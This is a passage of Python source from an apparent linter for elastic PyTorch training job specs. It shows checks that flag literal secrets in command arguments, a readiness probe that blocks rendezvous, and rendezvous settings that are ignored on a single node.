        yield Lint("EC107", path, f"a literal value that looks like {kind} (not shown)", True, text)


def _arg_secrets(path: Path, words: Any) -> Iterator[Lint]:
    """Secrets in a command or args list: by shape, and after --token / --api-key style flags."""
    if not isinstance(words, list):
        return
    previous: str | None = None
    for index, word in enumerate(words):
        if not isinstance(word, str):
            previous = None
            continue
        flag = _SECRET_FLAG.match(word)
        if flag and flag.group(2) is not None:
            yield from secret_lints((*path, index), flag.group(2), name=flag.group(1))
        else:
            yield from secret_lints((*path, index), word, name=previous)
        previous = flag.group(1) if flag and flag.group(2) is None else None


def _readiness_probe(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    rdzv = spec.rdzv
    if spec.nnodes.max == 1 or rdzv.backend != "c10d" or rdzv.host is not None:
        return  # nobody reaches the store by worker-0's service name
    training = _training(spec)
    if training is not None and "readinessProbe" in training[1]:
        yield Lint(
            "EC114",
            (*training[0], "readinessProbe"),
            f"a readiness probe on the training container: the PyTorchJob's headless services publish a pod only "
            f"once it is Ready, so until it passes {spec.name}-worker-0's name does not resolve and the other pods' "
            f"rendezvous waits for it (and fails after rdzv.read_timeout, {rdzv.read_timeout} s); remove it, or "
            "make sure it passes before rendezvous",
        )


def _one_node(spec: ElasticSpec, plan: Plan) -> Iterator[Lint]:
    if spec.nnodes.max > 1:
        return
    written = spec.rdzv.model_fields_set & {"backend", "host", "port"}
    if spec.rdzv.backend == "c10d":
        written.discard("backend")  # what a single node uses anyway
    for field in sorted(written, key=("backend", "host", "port").index):
        yield Lint(
            "EC115",
            ("rdzv", field),
            f"rdzv.{field} is ignored with nnodes 1; it applies when nnodes is above 1",
        )


_CHECKS = (
    _nproc_gpus,
    _shm_memory,
    _join_timeout,
    _elastic_restarts,
    _images,
    _cpu,
    _env_secrets,
    _host_namespaces,
    _privileged,
    _backoff_limit,
    _env_references,
    _hidden_text,
    _torchrun_exit_codes,
    _torchrun_cpus,
    _readiness_probe,
    _one_node,
)
